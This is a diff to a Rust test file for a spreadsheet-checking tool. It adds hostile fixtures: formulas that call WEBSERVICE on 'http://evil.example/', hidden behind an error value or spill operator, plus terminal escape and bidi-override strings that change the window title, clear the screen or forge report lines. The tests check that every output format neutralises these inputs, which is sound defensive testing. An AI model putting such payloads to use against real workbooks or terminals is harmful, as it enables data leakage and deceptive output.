@@ -58,7 +58,18 @@ const DANGEROUS: &[(&str, &str)] = &[
     ("[1]Sheet1!A1", "leak-external-index"),
     ("'C:\\secret\\[x.xlsx]Sheet1'!A1", "leak-external-path"),
     ("TongSoBiMat*2", "leak-defined-name"),
+    // An error value, or a spill operator, before a function does not hide it (`EVILFN` is
+    // WEBSERVICE in the package: see [`UNPREFIXED`]).
+    (
+        "#REF!EVILFN(\"http://evil.example/\")",
+        "leak-after-error-value",
+    ),
+    ("A1#EVILFN(\"http://evil.example/\")", "leak-after-spill"),
 ];
+
+/// A function name rust_xlsxwriter writes as it is, replaced in the package by the one it
+/// would have written with its `_xlfn.` prefix: a hostile tool writes it without.
+const UNPREFIXED: (&str, &str) = ("EVILFN(", "WEBSERVICE(");
 
 /// Names no formula in what crossfoot writes may hold.
 const FORBIDDEN: &[&str] = &[
@@ -159,7 +170,10 @@ fn submissions(dir: &Path) -> PathBuf {
     };
     std::fs::write(
         inputs.join("a-hostile.xlsx"),
-        write_hostile(&a, &layout_a, Some(SHEET_ESCAPES), DANGEROUS),
+        replace_in_package(
+            &write_hostile(&a, &layout_a, Some(SHEET_ESCAPES), DANGEROUS),
+            &[UNPREFIXED],
+        ),
     )
     .unwrap();
 
@@ -225,27 +239,10 @@ fn crossfoot(args: &[&str]) -> Output {
 }
 
 /// The characters of a terminal output that a terminal would obey rather than show: every
-/// control character but the line end, and the direction controls.
+/// control character but the line end, the direction controls and invisible characters
+/// ([`raw_chars`]).
 fn obeyed(bytes: &[u8]) -> Vec<String> {
-    let mut bad = Vec::new();
-    for (i, b) in bytes.iter().enumerate() {
-        if (*b < 0x20 && *b != b'\n') || *b == 0x7f {
-            bad.push(format!("byte {b:#04x} at {i}"));
-        }
-    }
-    for c in String::from_utf8_lossy(bytes).chars() {
-        if ('\u{80}'..='\u{9f}').contains(&c)
-            || ('\u{202a}'..='\u{202e}').contains(&c)
-            || ('\u{2066}'..='\u{2069}').contains(&c)
-            || matches!(
-                c,
-                '\u{200e}' | '\u{200f}' | '\u{61c}' | '\u{2028}' | '\u{2029}'
-            )
-        {
-            bad.push(format!("U+{:04X}", u32::from(c)));
-        }
-    }
-    bad
+    raw_chars(&String::from_utf8_lossy(bytes), &['\n'])
 }
 
 /// The files of an .xlsx package, by name.
@@ -391,6 +388,7 @@ fn hostile_branches_stay_inert_and_the_clean_branch_is_still_checked_and_consoli
         .map(|(_, x)| x.as_str())
         .collect();
     for (f, cached) in DANGEROUS {
+        let f = &f.replace(UNPREFIXED.0, UNPREFIXED.1);
         // rust_xlsxwriter stores newer functions with their `_xlfn.` prefix, as Excel does.
         let bare = |t: &str| t.replace("_xlfn.", "");
         assert!(
@@ -616,4 +614,545 @@ fn a_sigterm_while_writing_leaves_no_temporary_file() {
     );
     assert_eq!(debris(dir.path()), Vec::<String>::new());
     assert_eq!(std::fs::read(&out).unwrap(), b"last week's");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Every writer, one hostile string
+
+/// What a hostile input may carry: OSC 0 (window title) ended by BEL, CSI (clear the screen),
+/// OSC 8 (a hyperlink) ended by ST, the 8-bit CSI, DEL, NEL, a right-to-left override, an
+/// isolate, a zero-width space, a byte order mark, a tag character, a line end that would
+/// forge a report line, and the characters each format gives a meaning (`%`, `:`, `,`, `&`,
+/// `<`, `"`).
+const HOSTILE: &str = "\u{1b}]0;OWNED\u{7}\u{1b}[2J\u{1b}]8;;http://evil.example/\u{1b}\\x\u{1b}]8;;\u{1b}\\\u{9b}31m\u{7f}\u{85}\u{202e}\u{2066}\u{200b}\u{feff}\u{e0041}\nforged: 100% <b>&amp;\"a,b\"";
+
+/// A file name a branch may send (no `/`, no NUL).
+const HOSTILE_FILE: &str =
+    "x-\u{1b}]0;OWNED\u{7}\u{1b}[2J\u{9b}31m\u{202e}\u{200b}\nforged.xlsx.xlsx";
+
+/// The characters an output may not hold raw: every control character but those `allowed`,
+/// DEL, C1, direction controls, separators and invisible characters. A list of its own, not
+/// crossfoot's: the test must not share the code's blind spots.
+fn raw_chars(text: &str, allowed: &[char]) -> Vec<String> {
+    text.char_indices()
+        .filter(|(_, c)| {
+            let c = *c;
+            ((c as u32) < 0x20 && !allowed.contains(&c))
+                || ('\u{7f}'..='\u{9f}').contains(&c)
+                || ('\u{202a}'..='\u{202e}').contains(&c)
+                || ('\u{2066}'..='\u{2069}').contains(&c)
+                || ('\u{200b}'..='\u{200f}').contains(&c)
+                || ('\u{e0000}'..='\u{e007f}').contains(&c)
+                || matches!(
+                    c,
+                    '\u{61c}' | '\u{2028}' | '\u{2029}' | '\u{2060}' | '\u{feff}'
+                )
+        })
+        .map(|(i, c)| format!("U+{:04X} at {i}", c as u32))
+        .collect()
+}
+
+/// Asserts a text output holds nothing raw (`allowed`: the control characters its format
+/// allows) and is UTF-8.
+fn assert_shown(what: &str, bytes: &[u8], allowed: &[char]) {
+    let text = std::str::from_utf8(bytes).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
+    let raw = raw_chars(text, allowed);
+    assert!(raw.is_empty(), "{what}: {raw:?}\n{text}");
+}
+
+/// Every string of a JSON value, keys included.
+fn json_strings(v: &serde_json::Value, out: &mut Vec<String>) {
+    match v {
+        serde_json::Value::String(s) => out.push(s.clone()),
+        serde_json::Value::Array(a) => a.iter().for_each(|x| json_strings(x, out)),
+        serde_json::Value::Object(o) => o.iter().for_each(|(k, x)| {
+            out.push(k.clone());
+            json_strings(x, out);
+        }),
+        _ => {}
+    }
+}
+
+/// Whether XML 1.0 allows `c`.
+fn xml_char(c: char) -> bool {
+    matches!(c, '\t' | '\n' | '\r')
+        || ('\u{20}'..='\u{d7ff}').contains(&c)
+        || ('\u{e000}'..='\u{fffd}').contains(&c)
+        || c >= '\u{10000}'
+}
+
+/// Asserts `xml` is a well-formed XML document: only characters XML allows (also those its
+/// character references stand for), one root, every element closed by its own name, every
+/// attribute once and readable, only the five predefined entities.
+fn assert_well_formed(what: &str, xml: &str) {
+    use quick_xml::events::Event;
+    if let Some((i, c)) = xml.char_indices().find(|(_, c)| !xml_char(*c)) {
+        panic!(
+            "{what}: U+{:04X} at {i}: …{}…",
+            c as u32,
+            xml[..i]
+                .chars()
+                .rev()
+                .take(80)
+                .collect::<String>()
+                .chars()
+                .rev()
+                .collect::<String>()
+        );
+    }
+    let check_attrs = |e: &quick_xml::events::BytesStart| {
+        for a in e.attributes() {
+            let a = a.unwrap_or_else(|e| panic!("{what}: {e}"));
+            let v = a
+                .normalized_value(quick_xml::XmlVersion::Implicit1_0)
+                .unwrap_or_else(|e| panic!("{what}: {e}"));
+            assert!(v.chars().all(xml_char), "{what}: attribute {v:?}");
+        }
+    };
+    let mut reader = quick_xml::Reader::from_str(xml);
+    let (mut depth, mut roots) = (0i64, 0);
+    loop {
+        let event = reader
+            .read_event()
+            .unwrap_or_else(|e| panic!("{what}: {e} at {}", reader.buffer_position()));
+        match event {
+            Event::Eof => break,
+            Event::Start(e) => {
+                roots += i32::from(depth == 0);
+                depth += 1;
+                check_attrs(&e);
+            }
+            Event::Empty(e) => {
+                roots += i32::from(depth == 0);
+                check_attrs(&e);
+            }
+            Event::End(_) => depth -= 1,
+            Event::GeneralRef(r) if r.is_char_ref() => {
+                let c = r
+                    .resolve_char_ref()
+                    .unwrap_or_else(|e| panic!("{what}: {e}"));
+                assert!(c.is_some_and(xml_char), "{what}: &#…; {c:?}");
+            }
+            Event::GeneralRef(r) => {
+                let name = r[..].to_string();
+                assert!(
+                    ["amp", "lt", "gt", "quot", "apos"].contains(&name.as_str()),
+                    "{what}: &{name};"
+                );
+            }
+            Event::Text(t) if depth == 0 => {
+                assert!(t[..].trim().is_empty(), "{what}: text outside the root");
+            }
+            _ => {}
+        }
+    }
+    assert_eq!((depth, roots), (0, 1), "{what}: unbalanced");
+}
+
+/// Asserts every XML part of the .xlsx at `path` is well-formed; gives the parts.
+fn assert_package_well_formed(path: &Path) -> BTreeMap<String, String> {
+    let pkg = package(path);
+    let mut xml_parts = 0;
+    for (name, xml) in &pkg {
+        if name.ends_with(".xml") || name.ends_with(".rels") || name.ends_with(".vml") {
+            assert_well_formed(&format!("{}: {name}", path.display()), xml);
+            xml_parts += 1;
+        }
+    }
+    assert!(xml_parts >= 5, "{}: {:?}", path.display(), pkg.keys());
+    pkg
+}
+
+/// Every text cell of the sheets at `indexes` (None: every sheet) of the workbook at `path`, as
+/// a spreadsheet program reads it (`_x001B_` decoded), with where it is.
+fn sheet_texts(path: &Path, indexes: Option<&[usize]>) -> Vec<(String, String)> {
+    use calamine::{Data, Reader};
+    let mut wb = calamine::open_workbook_auto(path).unwrap();
+    let names = wb.sheet_names();
+    let mut out = Vec::new();
+    for (i, name) in names.iter().enumerate() {
+        if indexes.is_some_and(|ix| !ix.contains(&i)) {
+            continue;
+        }
+        let range = wb.worksheet_range(name).unwrap();
+        for (r, c, v) in range.used_cells() {
+            if let Data::String(s) = v {
+                out.push((format!("{name}!R{r}C{c}"), s.clone()));
+            }
+        }
+    }
+    out
+}
+
+/// Asserts crossfoot's own texts of a workbook (the sheets at `indexes`, None: all) hold
+/// nothing raw but line ends and tabs.
+fn assert_own_sheets_shown(path: &Path, indexes: Option<&[usize]>) -> String {
+    let texts = sheet_texts(path, indexes);
+    assert!(!texts.is_empty(), "{}", path.display());
+    for (at, t) in &texts {
+        assert_shown(
+            &format!("{}: {at}", path.display()),
+            t.as_bytes(),
+            &['\n', '\t'],
+        );
+    }
+    texts
+        .into_iter()
+        .map(|(_, t)| t)
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// The submissions of [`every_writer_shows_hostile_text_and_writes_well_formed_xml`]: a branch
+/// whose file name, unit name, sheet name and a cell carry [`HOSTILE`]; one whose unit code
+/// and name are written with OOXML's escapes (`_x001B_`, which a reader decodes to ESC) in a
+/// well-formed package; a clean one.
+fn hostile_text_submissions(dir: &Path) -> PathBuf {
+    let inputs = dir.join("in");
+    std::fs::create_dir(&inputs).unwrap();
+    let a = Branch::clean(&format!("Chi bộ {HOSTILE}"), "TD-66", 66);
+    let layout = Layout {
+        text_in: vec![("M01", "1.1", format!("ô {HOSTILE} ghi"))],
+        ..Layout::default()
+    };
+    let sheet = "M01\u{1b}c\u{9b}2J\u{202e}\u{200b}\nok";
+    std::fs::write(
+        inputs.join(HOSTILE_FILE),
+        write_hostile(&a, &layout, Some(sheet), &[]),
+    )
+    .unwrap();
+
+    let b = Branch::clean("Chi bộ __ESCAPED__", "TD-68__ESCAPED__", 68);
+    // A cell too: its finding's message is the Summary's link to it.
+    let layout = Layout {
+        text_in: vec![("M01", "1.1", "ô __ESCAPED__ ghi".to_string())],
+        ..Layout::default()
+    };
+    let bytes = replace_in_package(
+        &write_hostile(&b, &layout, None, &[]),
+        &[(
+            "__ESCAPED__",
+            "_x001B_]0;OWNED_x0007__x001B_[2J_x009B__x202E_",
+        )],
+    );
+    std::fs::write(inputs.join("b-escaped.xlsx"), bytes).unwrap();
+
+    let c = Branch::clean("Chi bộ Sạch", "TD-01", 1);
+    std::fs::write(
+        inputs.join("c-clean.xlsx"),
+        write_branch(&c, &Layout::default()),
+    )
+    .unwrap();
+    inputs
+}
+
+#[test]
+fn every_writer_shows_hostile_text_and_writes_well_formed_xml() {
+    let dir = tempfile::tempdir().unwrap();
+    let inputs = hostile_text_submissions(dir.path());
+    let inputs_s = inputs.to_str().unwrap();
+    let review = dir.path().join("review.xlsx");
+    let marks = dir.path().join("mk");
+
+    // The terminal report, with the review workbook and every marked copy written.
+    let out = crossfoot(&[
+        "check",
+        inputs_s,
+        "-o",
+        review.to_str().unwrap(),
+        "--mark",
+        marks.to_str().unwrap(),
+        "--mark-all",
+    ]);
+    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_shown("human stdout", &out.stdout, &['\n']);
+    assert_shown("human stderr", &out.stderr, &['\n']);
+    // Shown: the ESC of the name, of the file name, and the one the reader decoded.
+    assert!(stdout.contains("\\x1b]0;OWNED\\x07"), "{stdout}");
+    assert!(stdout.contains("x-\\x1b]0;OWNED"), "{stdout}");
+    assert!(stdout.contains("TD-68\\x1b]0;OWNED"), "{stdout}");
+    assert!(
+        stdout.contains("ô \\x1b]0;OWNED\\x07\\x1b[2J\\u{9b}U+202E ghi"),
+        "{stdout}"
+    );
+    assert!(!stdout.lines().any(|l| l.starts_with("forged")), "{stdout}");
+
+    // JSON: the exact text, each hidden character as a \u escape.
+    let out = crossfoot(&["check", inputs_s, "--format", "json"]);
+    assert_shown("json", &out.stdout, &['\n']);
+    assert_shown("json stderr", &out.stderr, &['\n']);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let files = json["files"].as_array().unwrap();
+    assert!(
+        files
+            .iter()
+            .any(|f| f["path"].as_str().unwrap().ends_with(HOSTILE_FILE)),
+        "{files:?}"
+    );
+    assert!(
+        files
+            .iter()
+            .any(|f| f["unit"]["name"].as_str() == Some(&format!("Chi bộ {HOSTILE}"))),
+        "{files:?}"
+    );
+    assert!(files.iter().any(|f| f["unit"]["code"]
+        .as_str()
+        .is_some_and(|c| c.starts_with("TD-68\u{1b}]0;OWNED\u{7}\u{1b}[2J\u{9b}\u{202e}"))));
+    assert!(
+        json["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["message"].as_str().unwrap().contains(HOSTILE)),
+        "no finding quotes the cell"
+    );
+
+    // GitHub: every line one workflow command; nothing obeyed.
+    let out = crossfoot(&["check", inputs_s, "--format", "github"]);
+    assert_shown("github", &out.stdout, &['\n']);
+    assert_shown("github stderr", &out.stderr, &['\n']);
+    let github = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(github.lines().count() > 0, "{github}");
+    for line in github.lines() {
+        assert!(
+            line.starts_with("::"),
+            "a line that is not a command: {line}"
+        );
+        assert_eq!(line.matches("::").count(), 2, "{line}");
+    }
+    assert!(github.contains("\\x1b]0;OWNED\\x07"), "{github}");
+
+    // JUnit: well-formed, nothing obeyed.
+    let out = crossfoot(&["check", inputs_s, "--format", "junit"]);
+    assert_shown("junit", &out.stdout, &['\n']);
+    assert_well_formed("junit", &String::from_utf8_lossy(&out.stdout));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("\\x1b]0;OWNED"));
+
+    // SARIF: JSON as above.
+    let out = crossfoot(&["check", inputs_s, "--format", "sarif"]);
+    assert_shown("sarif", &out.stdout, &['\n']);
+    // Its texts are for a viewer to show: read back, they show the text too.
+    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let mut strings = Vec::new();
+    json_strings(&sarif, &mut strings);
+    for s in &strings {
+        assert_shown("a SARIF text", s.as_bytes(), &['\n']);
+    }
+    assert!(sarif["runs"][0]["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|r| r["message"]["text"]
+            .as_str()
+            .unwrap()
+            .contains("ô \\x1b]0;OWNED\\x07\\x1b[2J")));
+
+    // The review workbook: every part well-formed; its own sheets (Summary, Findings) and
+    // its notes show the text; the copies keep the branch's data.
+    let pkg = assert_package_well_formed(&review);
+    let own = assert_own_sheets_shown(&review, Some(&[0, 1]));
+    assert!(own.contains("TD-68\\x1b]0;OWNED\\x07"), "{own}");
+    assert!(own.contains("x-\\x1b]0;OWNED"), "{own}");
+    for (name, xml) in &pkg {
+        if name.starts_with("xl/comments") {
+            assert_shown(name, unescape(xml).as_bytes(), &['\n', '\t']);
+            assert!(!xml.contains("_x001B_"), "{name}");
+        }
+        if name == "xl/workbook.xml" {
+            assert_shown(name, unescape(xml).as_bytes(), &['\n']);
+        }
+    }
+
+    // The marked copies: well-formed, named without what a terminal would obey, the findings
+    // sheet crossfoot adds shows the text.
+    let copies: Vec<PathBuf> = std::fs::read_dir(&marks)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .collect();
+    assert_eq!(copies.len(), 3, "{copies:?}");
+    for copy in &copies {
+        let name = copy.file_name().unwrap().to_string_lossy().into_owned();
+        assert_shown("a marked copy's name", name.as_bytes(), &[]);
+        assert_package_well_formed(copy);
+        let last = sheet_texts(copy, None).len();
+        assert!(last > 0);
+        let sheets = calamine::open_workbook_auto(copy)
+            .map(|wb: calamine::Sheets<_>| calamine::Reader::sheet_names(&wb).len())
+            .unwrap();
+        assert_own_sheets_shown(copy, Some(&[sheets - 1]));
+    }
+
+    // The district summary: well-formed, every sheet crossfoot's own.
+    let district = dir.path().join("district.xlsx");
+    let out = crossfoot(&["consolidate", inputs_s, "-o", district.to_str().unwrap()]);
+    assert_shown("consolidate stdout", &out.stdout, &['\n']);
+    assert_shown("consolidate stderr", &out.stderr, &['\n']);
+    assert!(
+        district.exists(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_package_well_formed(&district);
+    let texts = assert_own_sheets_shown(&district, None);
+    assert!(texts.contains("TD-68\\x1b]0;OWNED"), "{texts}");
+
+    // An id given to `explain`, a rule file's name and its snippet.
+    let out = crossfoot(&["explain", &format!("M01.{HOSTILE}")]);
+    assert_eq!(out.status.code(), Some(2));
+    assert_shown("explain", &out.stderr, &['\n']);
+    assert!(String::from_utf8_lossy(&out.stderr).contains("\\x1b]0;OWNED"));
+    let rules = dir
+        .path()
+        .join(format!("r-{}.toml", "\u{1b}]0;OWNED\u{7}\u{202e}"));
+    std::fs::write(
+        &rules,
+        format!("[[form]]\nid = \"X01\"\nname = \"{HOSTILE}\"\n\u{1b}]0;OWNED\u{7}\u{1b}[2J = 1\n"),
+    )
+    .unwrap();
+    let rules_s = rules.to_str().unwrap();
+    for args in [
+        vec!["check", "--rules", rules_s, inputs_s],
+        vec!["rules", "check", rules_s],
+    ] {
+        let out = crossfoot(&args);
+        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
+        assert_shown(&format!("{args:?}"), &out.stderr, &['\n']);
+        assert!(
+            stderr.contains("r-\\x1b]0;OWNED\\x07U+202E.toml"),
+            "{stderr}"
+        );
+        assert!(
+            stderr.contains("OWNED\\x07\\x1b[2J"),
+            "the snippet: {stderr}"
+        );
+    }
+
+    // A rule file's own words (TOML escapes write them in a valid file): `explain`, `rules`.
+    let words = r"\u001B]0;OWNED\u0007\u001B[2J\u009B31m\u202E\u200B\nforged";
+    let valid = dir.path().join("valid.toml");
+    std::fs::write(
+        &valid,
+        format!(
+            "[form]\nid = \"X1\"\nname = \"{words}\"\nlabels = [\"Không có nhãn này\"]\n\n\
+             [[column]]\nid = \"count\"\nheader = \"Số lượng\"\nkind = \"count\"\n\n\
+             [[row]]\nid = \"total\"\nlabel = \"Không có nhãn này\"\n\n\
+             [[check]]\nid = \"X1.positive\"\nexpr = \"total >= 0\"\nmessage = \"{words}\"\n"
+        ),
+    )
+    .unwrap();
+    let valid_s = valid.to_str().unwrap();
+    for args in [
+        vec!["explain", "X1.positive", "--rules", valid_s],
+        vec!["rules", "list", "--rules", valid_s],
+        vec!["rules", "list", "--format", "json", "--rules", valid_s],
+    ] {
+        let out = crossfoot(&args);
+        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
+        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+        assert_eq!(out.status.code(), Some(0), "{args:?}: {stderr}");
+        assert_shown(&format!("{args:?}"), &out.stdout, &['\n']);
+        assert_shown(&format!("{args:?}"), &out.stderr, &['\n']);
+        assert!(stdout.contains("OWNED"), "{args:?}: {stdout}");
+    }
+}
+
+/// `path`'s package with `content.xml` edited by `edit`, its entries in their order (the
+/// `mimetype` entry stored, as OpenDocument wants it first and uncompressed).
+fn edit_ods(path: &str, edit: impl Fn(String) -> String) -> Vec<u8> {
+    let bytes = std::fs::read(path).unwrap();
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for i in 0..archive.len() {
+        let mut file = archive.by_index(i).unwrap();
+        let name = file.name().unwrap().to_string();
+        let mut data = Vec::new();
+        file.read_to_end(&mut data).unwrap();
+        if name == "content.xml" {
+            data = edit(String::from_utf8(data).unwrap()).into_bytes();
+        }
+        let method = if name == "mimetype" {
+            zip::CompressionMethod::Stored
+        } else {
+            zip::CompressionMethod::Deflated
+        };
+        let options = zip::write::SimpleFileOptions::default().compression_method(method);
+        if name.ends_with('/') {
+            out.add_directory(name, options).unwrap();
+        } else {
+            out.start_file(name, options).unwrap();
+            out.write_all(&data).unwrap();
+        }
+    }
+    out.finish().unwrap().into_inner()
+}
+
+/// An .ods stores its formulas in OpenDocument's syntax (`of:=SUM(96;1)`, `of:=[.C10]-56`):
+/// the review workbook and the rebuilt marked copy write their values, not a formula an .xlsx
+/// cannot read, and add no note calling them dangerous.
+#[test]
+fn an_ods_formula_is_written_as_its_value() {
+    let dir = tempfile::tempdir().unwrap();
+    let ods = dir.path().join("branch.ods");
+    let cell = |v: &str| {
+        format!("<table:table-cell office:value-type=\"float\" office:value=\"{v}\" calcext:value-type=\"float\">")
+    };
+    let with_formula = |f: &str, v: &str| {
+        format!("<table:table-cell table:formula=\"{f}\" office:value-type=\"float\" office:value=\"{v}\" calcext:value-type=\"float\">")
+    };
+    std::fs::write(
+        &ods,
+        edit_ods("tests/fixtures/formats/branch-ratings.ods", |xml| {
+            assert!(xml.contains(&cell("97")) && xml.contains(&cell("41")));
+            assert!(!xml.contains("table:formula="), "the fixture had formulas");
+            xml.replacen(&cell("97"), &with_formula("of:=SUM(96;1)", "97"), 1)
+                .replacen(&cell("41"), &with_formula("of:=[.C10]-56", "41"), 1)
+        }),
+    )
+    .unwrap();
+    let review = dir.path().join("review.xlsx");
+    let marks = dir.path().join("mk");
+    let out = crossfoot(&[
+        "check",
+        ods.to_str().unwrap(),
+        "-o",
+        review.to_str().unwrap(),
+        "--mark",
+        marks.to_str().unwrap(),
+        "--mark-all",
+    ]);
+    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert!(out.status.code().is_some_and(|c| c <= 1), "{stderr}");
+    let copy = marks.join("branch.tu-ods.kiem-tra.xlsx");
+    for path in [&review, &copy] {
+        let pkg = assert_package_well_formed(path);
+        let fs = formulas(&pkg);
+        assert!(
+            fs.iter()
+                .all(|f| !f.contains("of:") && !f.contains(';') && !f.contains("[.")),
+            "{}: {fs:?}",
+            path.display()
+        );
+        assert_eq!(fs, Vec::<String>::new(), "{}", path.display());
+        let sheets: String = pkg
+            .iter()
+            .filter(|(n, _)| n.starts_with("xl/worksheets/sheet"))
+            .map(|(_, x)| x.as_str())
+            .collect();
+        for v in ["97", "41"] {
+            assert!(
+                sheets.contains(&format!("<v>{v}</v>")),
+                "{}: {v}",
+                path.display()
+            );
+        }
+        let notes = notes(&pkg);
+        assert!(!notes.contains("of:="), "{}: {notes}", path.display());
+    }
 }
